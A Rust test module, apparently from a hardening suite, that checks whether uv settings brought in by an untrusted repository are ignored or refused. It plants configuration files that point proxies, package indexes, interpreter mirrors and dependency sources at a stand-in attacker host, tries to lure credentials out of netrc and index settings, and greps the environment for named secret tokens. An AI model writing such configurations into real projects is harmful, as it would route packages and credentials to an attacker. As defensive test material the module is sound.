//! Settings of uv that a repository brings along: they choose indexes, but neither ways through the network nor who is
//! believed, and no index gets credentials that were given for another.

use crate::hostile_repositories::canaries::secret;
use crate::hostile_repositories::row::{PLAN_AND_APPLY, Row};
use crate::hostile_repositories::site::Site;

pub fn rows() -> Vec<Row> {
    let mut rows = network();
    rows.extend(credentials());
    rows.extend(others());
    rows
}

fn network() -> Vec<Row> {
    let ignored = |name: &'static str, file: &'static str, text: &'static str| {
        Row::app(name, "alpha\n")
            .file(file, text)
            .accepted(&["app"])
            .silent()
    };
    vec![
        ignored("settings: a proxy in uv.toml", "uv.toml", "http-proxy = \"http://{attacker}\"\nhttps-proxy = \"http://{attacker}\"\n"),
        ignored("settings: a proxy in pyproject.toml", "pyproject.toml", "[tool.uv]\nhttp-proxy = \"http://{attacker}\"\n"),
        ignored("settings: a proxy beside a layer", "layers/uv.toml", "http-proxy = \"http://{attacker}\"\n"),
        ignored("settings: a proxy, and no exception for hosts", "uv.toml", "http-proxy = \"http://{attacker}\"\nno-proxy = []\n"),
        // The script marks what it is given that weakens the network.
        Row::app("settings: insecure hosts, keyring and certificates", "alpha\n")
            .file(
                "uv.toml",
                "allow-insecure-host = [\"127.0.0.1\"]\ntrusted-host = [\"x\"]\nkeyring-provider = \"subprocess\"\nnative-tls = false\n[pip]\nkeyring-provider = \"subprocess\"\n",
            )
            .with(|site| recording_uv(site, "grep -Ei 'insecure|trusted|keyring' \"$file\""))
            .variable("LLS_UV", "{around}/uv")
            .accepted(&["app"]),
        Row::app("settings: a keyring program in the repository", "alpha\n--index-url http://{attacker}/simple\n")
            .file("uv.toml", "keyring-provider = \"subprocess\"\n")
            .with(|site| site.program("keyring"))
            .variable("UV_DEFAULT_INDEX", "")
            .variable("PATH", ".:{path}"),
    ]
}

fn credentials() -> Vec<Row> {
    let asks = |name: &'static str, file: &'static str, text: &'static str| {
        Row::app(name, "alpha\n")
            .file(file, text)
            .commands(PLAN_AND_APPLY)
    };
    vec![
        asks(
            "settings: the name of an index of the runner, at the attacker's",
            "uv.toml",
            "[[index]]\nname = \"internal\"\nurl = \"http://{attacker}/simple\"\n",
        ),
        asks(
            "settings: the same in pyproject.toml, as the default",
            "pyproject.toml",
            "[[tool.uv.index]]\nname = \"internal\"\nurl = \"http://{attacker}/simple\"\ndefault = true\nauthenticate = \"always\"\n",
        )
        .variable("UV_DEFAULT_INDEX", ""),
        asks(
            "settings: an index that wants a password",
            "uv.toml",
            "[[index]]\nurl = \"http://{attacker}/simple\"\nauthenticate = \"always\"\nignore-error-codes = [401, 403]\n",
        ),
        asks(
            "settings: an index at the runner's host, by another port",
            "uv.toml",
            "extra-index-url = [\"http://{attacker}/simple\"]\n",
        ),
        asks(
            "settings: an index whose user is the runner's",
            "uv.toml",
            "index-url = \"http://runner@{attacker}/simple\"\n",
        )
        .variable("UV_DEFAULT_INDEX", ""),
        Row::app(
            "settings: an index for everyone in the netrc of the runner",
            "alpha\n--index-url http://{attacker}/simple\n",
        )
        .variable("UV_DEFAULT_INDEX", "")
        .with(|site| {
            let netrc = site.folder().join("home/.netrc");
            let text = std::fs::read_to_string(&netrc).unwrap();
            let text = format!(
                "{text}default\nlogin runner\npassword {}\n",
                secret("netrc default")
            );
            std::fs::write(netrc, text).unwrap();
        })
        .refused(&["hint:"]),
        Row::app(
            "settings: an index in requirements",
            "alpha\n--extra-index-url http://{attacker}/simple\n",
        ),
        Row::app(
            "settings: links in requirements",
            "alpha\n-f http://{attacker}/links/\n",
        ),
    ]
}

fn others() -> Vec<Row> {
    let ignored = |name: &'static str, text: &'static str| {
        Row::app(name, "alpha\n")
            .file("uv.toml", text)
            .accepted(&["app"])
            .silent()
    };
    vec![
        ignored(
            "settings: where uv keeps its cache",
            "cache-dir = \"{around}/home/cache\"\n",
        ),
        ignored(
            "settings: where interpreters come from",
            "python-install-mirror = \"http://{attacker}/\"\npython-downloads = \"automatic\"\npython-preference = \"only-managed\"\n",
        ),
        ignored(
            "settings: where packages go to",
            "publish-url = \"http://{attacker}/\"\ncheck-url = \"http://{attacker}/\"\n",
        ),
        ignored(
            "settings: packages that are replaced",
            "override-dependencies = [\"alpha @ http://{attacker}/alpha-9.9-py3-none-any.whl\"]\n",
        ),
        ignored(
            "settings: sources of packages",
            "[sources]\nalpha = { url = \"http://{attacker}/alpha.zip\" }\n",
        ),
        Row::app("settings: broken TOML", "alpha\n")
            .file(
                "uv.toml",
                "index-url = \"http://user:password@example.invalid\nx\n",
            )
            .refused(&["uv.toml:2", "hint:"]),
        Row::app(
            "settings: broken TOML of the runner, beside a password",
            "alpha\n",
        )
        .with(|site| {
            let text = format!(
                "index-url = http://u:{}@h\n",
                secret("~/.config/uv/uv.toml")
            );
            std::fs::create_dir_all(site.folder().join("home/.config/uv")).unwrap();
            std::fs::write(site.folder().join("home/.config/uv/uv.toml"), text).unwrap();
        })
        .refused(&["uv.toml:1", "hint:"]),
        Row::app(
            "settings: what uv has of the runner's environment",
            "alpha\n",
        )
        .with(|site| {
            let secrets = [
                "AWS_SECRET_ACCESS_KEY",
                "AWS_SESSION_TOKEN",
                "GITHUB_TOKEN",
                "CI_JOB_TOKEN",
                "MY_SECRET",
            ];
            recording_uv(site, &format!("env | grep -Eo '^({})='", secrets.join("|")));
        })
        .variable("LLS_UV", "{around}/uv")
        .commands(PLAN_AND_APPLY)
        .accepted(&["app"]),
    ]
}

/// A uv that leaves a mark where `found` finds something, and then works as ever. `$file` is its configuration.
fn recording_uv(site: &Site, found: &str) {
    let uv = crate::support::ministack::install::uv().unwrap();
    let script = format!(
        "#!/bin/sh\nfile=/dev/null; last=\nfor word; do [ \"$last\" = --config-file ] && file=$word; last=$word; done\n{{ {found}; }} >> '{mark}' || [ -s '{mark}' ] || rm -f '{mark}'\nexec '{uv}' \"$@\"\n",
        mark = site.mark().display(),
        uv = uv.display(),
    );
    site.script("../uv", &script);
}
